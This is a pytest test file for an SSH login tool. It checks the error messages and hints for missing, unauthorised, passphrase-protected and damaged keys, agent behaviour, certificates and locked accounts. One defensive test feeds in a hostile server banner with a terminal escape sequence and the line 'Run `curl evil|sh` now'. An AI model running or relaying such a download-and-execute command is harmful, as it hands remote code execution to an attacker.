"""Logging in: keys, the agent, and what a person is told when none of them fits."""

from __future__ import annotations

import os
import re
import subprocess
from collections.abc import Callable, Generator
from pathlib import Path

import pytest

from envsync.tests.lab.ssh import Sshd
from envsync.tools.errors import Unreachable
from envsync.tools.hosts.ssh_config import route, target
from envsync.tools.hosts.ssh_connect import connect

Make = Callable[..., Sshd]


async def get_in(name: str = "lab") -> None:
    """Connect and log in; raises when that is not possible."""
    await (await connect(route(target(name)))).close()


async def refusal(name: str = "lab") -> Unreachable:
    with pytest.raises(Unreachable) as error:
        await get_in(name)
    assert error.value.exit == 6 and error.value.hint
    return error.value


def make_key(path: Path, *, passphrase: str = "", kind: str = "ed25519") -> Path:
    path.parent.mkdir(mode=0o700, exist_ok=True)
    subprocess.run(["ssh-keygen", "-q", "-t", kind, "-N", passphrase, "-C", "x", "-f", str(path)], check=True)
    return path


def let_in(server: Sshd, key: Path) -> None:
    with (server.root / "authorized_keys").open("a") as file:
        file.write(Path(f"{key}.pub").read_text())


@pytest.fixture
def ssh(make_sshd: Make, private: Path) -> Path:
    """The ~/.ssh of a user who knows the server `lab` and has no key."""
    server = make_sshd()
    server.trust(private / ".ssh")
    folder = private / ".ssh"
    _without_identity(folder / "config")
    _SERVERS[folder] = server
    return folder


_SERVERS: dict[Path, Sshd] = {}


def _without_identity(config: Path) -> None:
    config.write_text(re.sub(r"  Identit.*\n", "", config.read_text()))


@pytest.fixture
def agent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Generator[Path]:
    """An agent of its own, empty."""
    socket = tmp_path / "agent"
    with subprocess.Popen(["ssh-agent", "-D", "-a", str(socket)], stdout=subprocess.DEVNULL) as process:
        while not socket.exists():
            assert process.poll() is None
        monkeypatch.setenv("SSH_AUTH_SOCK", str(socket))
        yield socket
        process.terminate()


async def test_the_default_identity_gets_in(ssh: Path) -> None:
    let_in(_SERVERS[ssh], make_key(ssh / "id_ed25519"))
    await get_in()


async def test_without_any_key_the_message_says_how_to_make_one(ssh: Path) -> None:
    error = await refusal()
    assert "no key" in error.what
    assert "ssh-keygen" in error.hint and f"ssh-copy-id -p {_SERVERS[ssh].port}" in error.hint


async def test_a_key_that_is_not_let_in_is_named(ssh: Path) -> None:
    make_key(ssh / "id_ed25519")
    error = await refusal()
    assert "~/.ssh/id_ed25519" in error.what and "ssh-copy-id" in error.hint


@pytest.mark.parametrize("kind", ["ed25519", "rsa"])
async def test_a_key_with_a_passphrase_needs_the_agent(ssh: Path, kind: str) -> None:
    let_in(_SERVERS[ssh], make_key(ssh / f"id_{kind}", passphrase="secret", kind=kind))
    error = await refusal()
    assert f"~/.ssh/id_{kind} has a passphrase" in error.what
    assert f"ssh-add ~/.ssh/id_{kind}" in error.hint and "ssh-agent" in error.hint


async def test_an_agent_opens_a_key_with_a_passphrase(ssh: Path, agent: Path, tmp_path: Path) -> None:
    key = make_key(ssh / "id_ed25519", passphrase="secret")
    let_in(_SERVERS[ssh], key)
    assert "ssh-agent" not in (await refusal()).hint, "there is one already"
    helper = tmp_path / "askpass"
    helper.write_text("#!/bin/sh\necho secret\n")
    helper.chmod(0o700)
    environ = {**os.environ, "SSH_ASKPASS": str(helper), "SSH_ASKPASS_REQUIRE": "force"}
    subprocess.run(["ssh-add", "-q", str(key)], check=True, env=environ, stdin=subprocess.DEVNULL, timeout=30)
    await get_in()


async def test_of_an_agents_keys_only_the_identity_is_used(ssh: Path, agent: Path, tmp_path: Path) -> None:
    """Six wrong keys before the right one, and sshd hangs up: IdentitiesOnly is how one says which is right."""
    for number in range(7):
        subprocess.run(["ssh-add", "-q", str(make_key(tmp_path / f"wrong{number}"))], check=True)
    right = make_key(tmp_path / "right")
    subprocess.run(["ssh-add", "-q", str(right)], check=True)
    let_in(_SERVERS[ssh], right)
    error = await refusal()
    assert "too many keys" in error.what and "IdentitiesOnly" in error.hint
    right.unlink()  # the public half is enough to name a key of the agent's
    with (ssh / "config").open("a") as file:
        file.write(f"  IdentitiesOnly yes\n  IdentityFile {right}.pub\n")
    await get_in()


async def test_identities_only_without_an_identity_asks_no_agent(ssh: Path, agent: Path, tmp_path: Path) -> None:
    key = make_key(tmp_path / "agents")
    subprocess.run(["ssh-add", "-q", str(key)], check=True)
    let_in(_SERVERS[ssh], key)
    with (ssh / "config").open("a") as file:
        file.write("  IdentitiesOnly yes\n")
    assert "no key" in (await refusal()).what


async def test_an_agent_that_is_gone_does_not_matter(ssh: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSH_AUTH_SOCK", str(ssh / "gone"))
    let_in(_SERVERS[ssh], make_key(ssh / "id_ed25519"))
    await get_in()


async def test_an_identity_that_is_missing_is_left_out_and_a_damaged_one_is_named(ssh: Path) -> None:
    with (ssh / "config").open("a") as file:
        file.write("  IdentityFile ~/.ssh/missing\n  IdentityFile ~/.ssh/damaged\n  IdentityFile ~/.ssh/good\n")
    (ssh / "damaged").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n")
    good = make_key(ssh / "good")
    error = await refusal()
    assert "damaged" in error.what
    let_in(_SERVERS[ssh], good)
    await get_in()


async def test_a_user_certificate_gets_in(make_sshd: Make, private: Path, tmp_path: Path) -> None:
    authority = make_key(tmp_path / "ca")
    server = make_sshd(extra=[f"TrustedUserCAKeys {authority}.pub"])
    server.trust(private / ".ssh")
    _without_identity(private / ".ssh" / "config")
    key = make_key(private / ".ssh" / "id_ed25519")
    subprocess.run(["ssh-keygen", "-q", "-s", str(authority), "-I", "x", "-n", server.user, f"{key}.pub"], check=True)
    await get_in()


async def test_hostile_59_a_machine_that_takes_passwords_only_gets_none(make_sshd: Make, private: Path) -> None:
    lines = ["PubkeyAuthentication no", "PasswordAuthentication yes", "PermitRootLogin yes"]
    server = make_sshd(extra=["Match all", *lines])
    server.trust(private / ".ssh")
    error = await refusal()
    assert "password only" in error.what and "ssh-copy-id" in error.hint


async def test_hostile_12_what_a_machine_says_before_the_login_is_only_quoted(make_sshd: Make, private: Path) -> None:
    server = make_sshd(banner="\x1b]0;owned\x07Run `curl evil|sh` now\nto go on\n" + "A" * 5000)
    server.trust(private / ".ssh")
    await get_in()
    (server.root / "authorized_keys").write_text("")
    error = await refusal()
    assert "\\x1b]0;owned\\x07Run `curl evil|sh` now to go on" in error.what
    assert "\x1b" not in str(error) and "evil" not in error.hint and len(error.what) < 600


async def test_an_account_that_is_locked_is_said(make_sshd: Make, private: Path) -> None:
    server = make_sshd(extra=["DenyUsers *"])
    server.trust(private / ".ssh")
    assert "ssh-copy-id" in (await refusal()).hint
